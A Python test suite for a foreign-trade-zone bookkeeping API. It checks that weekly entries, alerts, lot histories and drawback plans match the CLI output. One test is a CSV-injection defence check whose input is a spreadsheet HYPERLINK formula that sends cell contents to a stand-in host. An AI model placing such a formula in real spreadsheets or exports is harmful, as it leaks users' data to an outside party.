"""The API's reads and documents: each the CLI's `--json` (or file) for the same books and
options: the weekly entry (JSON, HTML, PDF, CSV), alerts, a lot's history, verify, the zones
and the drawback plan."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from zk_api import ADMISSIONS, SHIPMENTS, cli, cli_json, csv_upload, with_parts
from zk_web import Web

from zonekeeper.app.users import Role

IMPORTS = """entry_no,line,import_date,hts,quantity,unit,value,duty,mpf,origin
E1,1,2026-01-15,4202.92.31.20,10,No.,1000,176.00,3.46,VN
E2,1,2026-01-20,4202.92.31.20,10,No.,500,88.00,,VN
"""
EXPORTS = """export_ref,export_date,hts,quantity,unit,value,disposition
X1,2026-03-02,4202.92.31.20,4,No.,200,export
X2,2026-03-10,4202.92.31.20,12,No.,3000,zone_restricted
"""


@pytest.fixture
def posted(web: Web, tmp_path: Path) -> Web:
    """Zone 1 with two admissions and a consumption shipment in week 2026-W32."""
    with_parts(web, tmp_path)
    for path, name, text in (("admissions", "adm.csv", ADMISSIONS),
                             ("shipments", "ship.csv", SHIPMENTS)):
        answer = web.client.post(f"/api/v1/zones/1/{path}", files=csv_upload(name, text),
                                 headers=web.as_(Role.CLERK))
        assert answer.status_code == 200, answer.json()
    return web


def test_the_weekly_entry_is_the_cli_json(posted: Web, tmp_path: Path) -> None:
    url = "/api/v1/zones/1/entries/weekly/2026-W32?summary_date=2026-08-21"
    answer = posted.client.get(url, headers=posted.as_(Role.VIEWER))
    assert answer.status_code == 200
    expected = cli_json(posted, tmp_path, "entry", "weekly", "--zone", "1", "--week",
                        "2026-W32", "--summary-date", "2026-08-21")
    assert answer.json() == expected and expected["lines"]


def test_the_weekly_entry_as_html_pdf_and_csv(posted: Web, tmp_path: Path) -> None:
    base, h = "/api/v1/zones/1/entries/weekly/2026-W32", posted.as_(Role.BROKER)
    html = posted.client.get(base, headers={**h, "Accept": "text/html,*/*"})
    assert html.status_code == 200 and html.headers["content-type"].startswith("text/html")
    cli(posted, tmp_path, "entry", "weekly", "--zone", "1", "--week", "2026-W32", "--html",
        str(tmp_path / "w.html"))
    assert html.text == (tmp_path / "w.html").read_text(encoding="utf-8")
    pdf = posted.client.get(f"{base}.pdf", headers=h)
    assert pdf.status_code == 200 and pdf.headers["content-type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF") and "attachment" in pdf.headers["content-disposition"]
    csv = posted.client.get(f"{base}.csv", headers=h)
    assert csv.status_code == 200 and csv.headers["content-type"].startswith("text/csv")
    assert csv.text == cli(posted, tmp_path, "entry", "weekly", "--zone", "1", "--week",
                           "2026-W32", "--csv")


def test_a_bad_week_and_date_are_422_naming_the_parameters(web: Web) -> None:
    answer = web.client.get("/api/v1/zones/1/entries/weekly/2026-32.csv?entry_date=someday",
                            headers=web.as_(Role.VIEWER))
    assert answer.status_code == 422
    fields = {p["where"]["field"] for p in answer.json()["problems"]}
    assert fields == {"week", "entry_date"}


def test_alerts_are_the_cli_json(posted: Web, tmp_path: Path) -> None:
    answer = posted.client.get("/api/v1/zones/1/alerts?as_of=2026-09-30",
                               headers=posted.as_(Role.VIEWER))
    assert answer.status_code == 200
    expected = cli_json(posted, tmp_path, "alerts", "--zone", "1", "--as-of", "2026-09-30")
    assert answer.json() == expected and expected["alerts"]
    bad = posted.client.get("/api/v1/zones/1/alerts?as_of=later", headers=posted.as_(Role.VIEWER))
    assert bad.status_code == 422 and bad.json()["problems"][0]["where"]["field"] == "as_of"


def test_a_lot_history_is_the_cli_json_and_an_unknown_lot_404(posted: Web, tmp_path: Path) -> None:
    expected = cli_json(posted, tmp_path, "history", "--zone", "1", "A-1/1")
    for path in ("A-1/1", "A-1%2F1"):  # the lot number's slash as it is, or escaped
        answer = posted.client.get(f"/api/v1/zones/1/lots/{path}/history",
                                   headers=posted.as_(Role.VIEWER))
        assert answer.status_code == 200 and answer.json() == expected
    assert expected["postings"]
    moves = posted.client.get("/api/v1/zones/1/lots/X/history", headers=posted.as_(Role.VIEWER))
    assert moves.status_code == 404 and moves.json()["problems"][0]["code"] == "history.no-lot"


def test_verify_and_the_zones(posted: Web, tmp_path: Path) -> None:
    answer = posted.client.get("/api/v1/zones/1/verify", headers=posted.as_(Role.VIEWER))
    assert answer.status_code == 200
    assert answer.json() == cli_json(posted, tmp_path, "verify", "--zone", "1")
    assert answer.json()["ok"] is True
    zones = posted.client.get("/api/v1/zones", headers=posted.as_(Role.VIEWER))
    assert zones.status_code == 200 and zones.json() == ["1"]


def test_the_drawback_plan_is_the_cli_json(web: Web, tmp_path: Path) -> None:
    files = {"imports": ("imports.csv", IMPORTS.encode(), "text/csv"),
             "exports": ("exports.csv", EXPORTS.encode(), "text/csv")}
    answer = web.client.post("/api/v1/drawback/plan", files=files,
                             data={"as_of": "2026-04-01", "method": "optimal"},
                             headers=web.as_(Role.COMPLIANCE))
    assert answer.status_code == 200, answer.json()
    expected = cli(web, tmp_path, "drawback", "plan", "--imports", "@i.csv", "--exports",
                   "@e.csv", "--as-of", "2026-04-01", "--json",
                   files={"i.csv": IMPORTS, "e.csv": EXPORTS})
    assert answer.text == expected and json.loads(expected)["designations"]


def test_bad_drawback_files_are_422_named_by_their_upload(web: Web) -> None:
    files = {"imports": ("mine.csv", b"entry_no,line\nE1,x\n", "text/csv"),
             "exports": ("theirs.csv", EXPORTS.encode(), "text/csv")}
    answer = web.client.post("/api/v1/drawback/plan", files=files, data={"as_of": "never"},
                             headers=web.as_(Role.ADMIN))
    assert answer.status_code == 422
    where = {(p["where"]["file"], p["where"]["field"]) for p in answer.json()["problems"]}
    assert any(file == "mine.csv" for file, _ in where)
    assert (None, "as_of") in where or any(field == "as_of" for _, field in where)


FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Click")'


def test_a_formula_from_the_users_files_is_data_and_comes_out_escaped(
    web: Web, tmp_path: Path
) -> None:
    """An admission number and a unit that a spreadsheet would run are the user's data:
    accepted and kept as written, and every CSV download of them (API, page, CLI) writes
    them with a quote in front, while amounts stay numbers (OWASP CSV injection)."""
    import csv as csv_module
    import io
    from decimal import Decimal

    parts = "part,description,hts,origin,unit\nW,Widget,8537.10.91.70,DE,+SUM(A1)\n"
    cli(web, tmp_path, "parts", "load", "--zone", "1", "@parts.csv", files={"parts.csv": parts})
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    keys = []
    for path, text in (("admissions", ADMISSIONS.replace("A-1", quoted)),
                       ("shipments", SHIPMENTS.replace("S1", "@S1"))):
        answer = web.client.post(f"/api/v1/zones/1/{path}", files=csv_upload("f.csv", text),
                                 headers=web.as_(Role.CLERK))
        assert answer.status_code == 200, answer.json()
        keys += [e["key"] for e in answer.json()["events"]]
    assert f"admission {FORMULA} line 1" in keys  # the user's identifier, kept as written
    h = web.as_(Role.BROKER)
    texts = [
        web.client.get("/api/v1/zones/1/entries/weekly/2026-W32.csv", headers=h).text,
        cli(web, tmp_path, "entry", "weekly", "--zone", "1", "--week", "2026-W32", "--csv"),
    ]
    for text in texts:
        rows = list(csv_module.DictReader(io.StringIO(text)))
        assert rows and {r["Line Tariff UOM (1) Code"] for r in rows} == {"'+SUM(A1)"}
        for cell in (c for r in rows for c in r.values()):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or (
                Decimal(cell) < 0), cell
        assert sum(Decimal(r["Line Tariff Goods Value Amount"]) for r in rows) > 0
